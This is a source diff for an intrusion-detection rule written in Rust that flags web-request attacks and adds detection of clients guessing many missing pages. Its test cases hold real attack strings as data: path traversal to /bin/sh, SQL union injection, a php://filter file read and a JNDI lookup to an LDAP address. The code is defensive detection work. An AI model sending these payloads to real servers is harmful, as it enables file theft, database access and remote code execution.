@@ -1,9 +1,15 @@
-//! Attacks in web requests: traversal, injection, look-up expressions.
+//! Attacks in web requests: traversal, injection, look-up expressions; and pages guessed.
 
 mod judge;
 
-use crate::{About, Detector, Draft, Findings, Kind, Site, Watch, named::name_of};
-use model::{Detail, Direction, Object, Observation, Operation, OperationClass, Severity};
+use crate::{
+    About, Detector, Draft, Findings, Kind, Site, Watch, named::name_of, watched::Watched,
+    window::Lately,
+};
+use model::{
+    Address, Detail, Direction, Object, Observation, Operation, OperationClass, Outcome, Severity,
+};
+use std::hash::{BuildHasher, Hasher};
 
 pub static WEB_ATTACK: Detector = Detector {
     about: About {
@@ -12,19 +18,34 @@ pub static WEB_ATTACK: Detector = Detector {
         engine: model::Engine::Malware,
         why: "Panels, controllers and servers offer web pages; a request can carry an attack that \
               reads files, changes a database or runs a program.",
-        techniques: &["T1190", "T0819", "T0866", "T1210"],
+        techniques: &["T1190", "T0819", "T0866", "T1210", "T1046", "T0846"],
         false_positives: "Vulnerability scanners; pages whose parameters look like code.",
         runbook: "See how the server answered: a page or a file means that the attack worked.\n\
                   Find out whether the source is the site's scanner.\n\
                   If not, block the source, examine the server and install its updates.",
         sees: &[Kind::Operation],
     },
-    watch: || Box::new(WebAttack),
+    watch: || Box::new(WebAttack { missing: Watched::new(MISSING_SECS) }),
     #[cfg(test)]
     cases,
 };
 
-struct WebAttack;
+/// Different pages within the span that were not there (RFC 9110, 15.5.5).
+const MISSING_MIN: usize = 50;
+const MISSING_SECS: i64 = 60;
+const NOT_FOUND: u32 = 404;
+
+struct WebAttack {
+    missing: Watched<(Address, Address), Missing>,
+}
+
+/// Of one client and server.
+#[derive(Default)]
+struct Missing {
+    /// Stands for the path that was asked for last.
+    asked: u64,
+    paths: Lately<u64>,
+}
 
 struct Attack {
     name: &'static str,
@@ -90,9 +111,17 @@ impl Watch for WebAttack {
         protocol == "http"
     }
 
+    fn dropped(&self) -> u64 {
+        self.missing.dropped()
+    }
+
     fn see(&mut self, o: &Observation, _: &Site<'_>, out: &mut Findings) {
         let Detail::Operation(operation) = &o.detail else { return };
-        if o.protocol != "http" || operation.direction != Direction::Request {
+        if o.protocol != "http" {
+            return;
+        }
+        self.look_for_pages(o, operation, out);
+        if operation.direction != Direction::Request {
             return;
         }
         let Some(attack) = attack(operation) else { return };
@@ -104,6 +133,48 @@ impl Watch for WebAttack {
                 .because(format!("In the request {text:?} {}.", attack.says))
         });
         debug_assert!(raised.is_none_or(|open| open.count() > 0));
+    }
+}
+
+impl WebAttack {
+    /// A browser that is led astray asks for a few pages that are not there, a device that asks for
+    /// one all day asks for the same. Lists of names that might be there are another thing.
+    fn look_for_pages(&mut self, o: &Observation, operation: &Operation, out: &mut Findings) {
+        let (Some(from), Some(to)) = (o.from.address(), o.to.address()) else { return };
+        if operation.direction == Direction::Request {
+            if let Object::Name { area: "uri", name } = &operation.object {
+                let path = name.split('?').next().unwrap_or_default();
+                let mut hasher = foldhash::fast::FixedState::with_seed(12).build_hasher();
+                hasher.write(path.as_bytes());
+                self.missing.of((from, to), o.at, Missing::default).asked = hasher.finish();
+            }
+            return;
+        }
+        if !matches!(operation.outcome, Outcome::Refused { code: NOT_FOUND, .. }) {
+            return;
+        }
+        let (client, server) = (to, from);
+        let Some(pair) = self.missing.known(&(client, server)) else { return };
+        let count = pair.paths.see(pair.asked, o.at, MISSING_SECS);
+        if count < MISSING_MIN {
+            return;
+        }
+        let first = pair.paths.first(o.at);
+        let raised = out.raise(&WEB_ATTACK.about, ("missing", client, server), o, || {
+            let title = "{0} tries names of pages on {1}";
+            Draft::by(client, [server], Severity::Medium, title)
+                .because(format!(
+                    "{MISSING_MIN} or more different pages it asked for within {MISSING_SECS} s \
+                     are not there: programs go through such lists that look for forgotten pages, \
+                     ways in and known holes."
+                ))
+                .techniques(&["T1046", "T0846"])
+        });
+        let Some(open) = raised else { return };
+        open.spans(first, o.at);
+        const _: () = assert!(MISSING_SECS == 60, "the words below say so");
+        let says = "pages that were not there in the newest minute";
+        open.proof_count("missing", (first, o.at), (count as u64, says));
     }
 }
 
@@ -132,7 +203,7 @@ fn attack(operation: &Operation) -> Option<&'static Attack> {
 
 #[cfg(test)]
 fn cases() -> Vec<crate::testing::Case> {
-    use crate::testing::{Case, requested};
+    use crate::testing::{Case, answered_with, requested};
     let one = |text| vec![requested(0, text)];
     let said = |function_name, area, text: &str| {
         let mut o = requested(0, text);
@@ -141,7 +212,21 @@ fn cases() -> Vec<crate::testing::Case> {
         operation.object = Object::Name { area, name: text.into() };
         vec![o]
     };
+    let not_found = |count: i64, apart: i64, path: fn(i64) -> String| {
+        let pair = |i: i64| {
+            let mut answer = answered_with(i * apart + 1, "http", "GET");
+            if let Detail::Operation(operation) = &mut answer.detail {
+                operation.outcome = Outcome::Refused { code: NOT_FOUND, name: "error" };
+            }
+            [requested(i * apart, &path(i)), answer]
+        };
+        (0..count).flat_map(pair).collect()
+    };
     vec![
+        Case::fires("a list of names", not_found(60, 100, |i| format!("/n{i}"))),
+        Case::silent("a list over a day", not_found(60, 60_000, |i| format!("/n{i}"))),
+        Case::silent("one page again and again", not_found(200, 100, |i| format!("/a?t={i}"))),
+        Case::fires("a file of the server", one("/?page=php://filter/resource=index")),
         Case::fires("traversal, hidden twice", one("/cgi-bin/.%%32%65/.%2e/%2e%2e/%2e%2e/bin/sh")),
         Case::fires("injection", one("/item?id=1%27+union+select+user+from+users%23")),
         Case::fires("a look-up", one("authorization: Bearer ${jndi:ldap://192.0.2.1/a}")),
